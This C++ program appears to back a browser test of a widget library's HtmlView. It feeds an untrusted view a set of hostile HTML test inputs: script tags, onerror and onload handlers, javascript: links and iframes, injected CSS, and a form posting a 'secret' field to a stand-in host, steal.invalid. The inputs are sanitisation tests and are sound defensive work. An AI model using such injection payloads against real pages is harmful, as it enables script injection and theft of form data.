// The program behind browser/html.test.mjs: HtmlView and ExternalWidget
// with hostile HTML (untrusted, the default), a trusted view, buttons
// driving set_html / append_html / clear / scrolling / open_url /
// set_default_font, a label showing what the server answers (get_html,
// the scrolled callback), and the application's font and icon.
//   html_app [--font FILE] [example flags]
#include <array>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include <pgwidgets/pgwidgets.hpp>

#include "example_args.hpp"

namespace {

// Every way HTML might run script, submit, navigate or restyle the page.
constexpr const char* kHostile =
    "<p id=\"hostile-text\">hostile view</p>"
    "<script>window.__pgwXss = 'script';</script>"
    "<img id=\"bad-img\" src=\"data:,x\" onerror=\"window.__pgwXss = 'img onerror'\">"
    "<a id=\"js-link\" href=\"javascript:window.__pgwXss = 'javascript link'\">js link</a>"
    "<svg id=\"bad-svg\" width=\"20\" height=\"20\"><script>window.__pgwXss = 'svg script'</script>"
    "<circle r=\"5\" cx=\"10\" cy=\"10\" onload=\"window.__pgwXss = 'svg onload'\"></circle>"
    "<a id=\"svg-link\" href=\"javascript:window.__pgwXss = 'svg link'\"><text y=\"10\">s</text></a></svg>"
    "<style>button { display: none !important; } * { color: rgb(255, 0, 0) !important; }</style>"
    "<form id=\"steal\" action=\"http://steal.invalid/post\" method=\"post\"><input id=\"steal-input\" name=\"q\" "
    "value=\"secret\"><button id=\"steal-submit\" type=\"submit\" formaction=\"http://steal.invalid/formaction\">"
    "Send</button></form>"
    "<iframe id=\"frame\" src=\"javascript:parent.__pgwXss='iframe'\"></iframe>"
    "<a id=\"web-link\" href=\"http://127.0.0.1:9/elsewhere\">web link</a>";

// What the server answers for the view's HTML (get_html: no round trip).
std::string server_html(const std::string& what, const pgw::HtmlView& view) {
  const std::string html = view.get_html();
  return what + " | " + std::to_string(html.size()) + " " + (html.empty() ? std::string("empty") : html.substr(0, 24));
}

std::string font_file = "/usr/share/fonts/truetype/dejavu/DejaVuSerif.ttf";

pgw::Task<> setup(pgw::Application& app, pgw::Session& session) {
  auto w = session.get_widgets();
  auto top = co_await w.TopLevel({.title = "HTML test", .resizable = true});
  co_await top.set_position(10, 10);
  co_await top.resize(860, 640);
  auto vbox = co_await w.VBox({.spacing = 4, .padding = 6});

  std::string tall = "<p id=\"first\">first</p>";
  for (int i = 0; i < 40; ++i) tall += "<p class=\"line\">line " + std::to_string(i) + "</p>";
  auto view = co_await w.HtmlView(tall, {.tooltip = "main view"});
  auto hostile = co_await w.HtmlView(kHostile, {.tooltip = "hostile view"});
  auto trusted = co_await w.HtmlView(
      "<p id=\"trusted-text\">trusted</p><script>window.__pgwTrusted = (window.__pgwTrusted || 0) + 1;</script>"
      "<img src=\"data:,x\" onerror=\"window.__pgwTrustedImg = 1\">",
      {.trusted_html = true, .tooltip = "trusted view"});
  auto external = co_await w.ExternalWidget({.tooltip = "external"});
  co_await external.set_content("<i id=\"ext-text\">external</i><img src=\"data:,x\" onerror=\"window.__pgwXss = 'external'\">");
  auto report = co_await w.Label("none", {.tooltip = "what the handlers got"});
  // Its own label: a view whose content changes scrolls, and that report
  // may come after another handler's (set_html, then clear).
  auto scroll_report = co_await w.Label("none", {.tooltip = "what scrolled said"});
  auto sample = co_await w.Label("Font sample", {.font = "14pt PgwTestSerif", .tooltip = "font sample"});
  auto hbox = co_await w.HBox({.spacing = 4});
  auto append = co_await w.Button("Append");
  auto set = co_await w.Button("Set");
  auto clear = co_await w.Button("Clear");
  auto bottom = co_await w.Button("Bottom");
  auto open = co_await w.Button("Open");
  auto font = co_await w.Button("Default font");
  const std::array<pgw::Button, 6> buttons{append, set, clear, bottom, open, font};
  for (const auto& b : buttons) co_await hbox.add_widget(b);
  co_await vbox.add_widget(view, 1);
  co_await vbox.add_widget(hostile, 1);
  co_await vbox.add_widget(trusted);
  co_await vbox.add_widget(external);
  co_await vbox.add_widget(hbox);
  co_await vbox.add_widget(report);
  co_await vbox.add_widget(scroll_report);
  co_await vbox.add_widget(sample);
  co_await top.set_widget(vbox);
  co_await top.show();

  // Strings are built before each co_await (g++ 12 frees a conditional's
  // string temporary inside a co_await expression twice: README, "g++ 12").
  append.on_activated([view, report, n = 0]() mutable -> pgw::Task<> {
    const std::string html = "<p class=\"more\">more " + std::to_string(++n) + "</p>";
    co_await view.append_html(html);
    const std::string text = server_html("appended", view);
    co_await report.set_text(text);
  });
  set.on_activated([view, report]() -> pgw::Task<> {
    co_await view.set_html("<p id=\"set\">set by the program</p>");
    const std::string text = server_html("set", view);
    co_await report.set_text(text);
  });
  clear.on_activated([view, report]() -> pgw::Task<> {
    co_await view.clear();
    const std::string text = server_html("cleared", view);
    co_await report.set_text(text);
  });
  bottom.on_activated([view]() -> pgw::Task<> { co_await view.scroll_to_bottom(); });
  view.on_scrolled([view, scroll_report](double h, double v) -> pgw::Task<> {
    const auto p = view.get_scroll_position();
    char text[96];
    std::snprintf(text, sizeof text, "scrolled %.3f %.3f | %.3f %.3f", h, v, p.h_pct, p.v_pct);
    co_await scroll_report.set_text(text);
  });
  open.on_activated([&session, report]() -> pgw::Task<> {
    session.open_url("/favicon.ico?opened");
    co_await report.set_text("opened");
  });
  font.on_activated([&app, report]() -> pgw::Task<> {
    app.set_default_font("PgwTestSerif", {.size = 11});
    co_await report.set_text("default font");
  });
}

}  // namespace

int main(int argc, char** argv) {
  // Our own flags out of the way of example::parse_args.
  std::vector<char*> rest{argv[0]};
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--font") == 0 && i + 1 < argc) {
      font_file = argv[++i];
    } else {
      rest.push_back(argv[i]);
    }
  }
  pgw::ApplicationOptions options;
  options.max_sessions = 4;  // a second browser, a session of its own
  example::parse_args(static_cast<int>(rest.size()), rest.data(), options);
  return pgw::run([&]() -> pgw::Task<> {
    pgw::Application app(options);
    app.register_font("PgwTestSerif", font_file);
    app.set_favicon(std::vector<std::uint8_t>{'<', 's', 'v', 'g', ' ', 'i', 'd', '=', '"', 't', 'e', 's', 't', '"',
                                              ' ', 'x', 'm', 'l', 'n', 's', '=', '"', 'h', 't', 't', 'p', ':', '/',
                                              '/', 'w', 'w', 'w', '.', 'w', '3', '.', 'o', 'r', 'g', '/', '2', '0',
                                              '0', '0', '/', 's', 'v', 'g', '"', '/', '>'});
    app.on_connect([&app](pgw::Session& session) -> pgw::Task<> { co_await setup(app, session); });
    co_await app.start();
    std::printf("%s\n", app.url().c_str());
    std::fflush(stdout);
    co_await app.run();
  }());
}
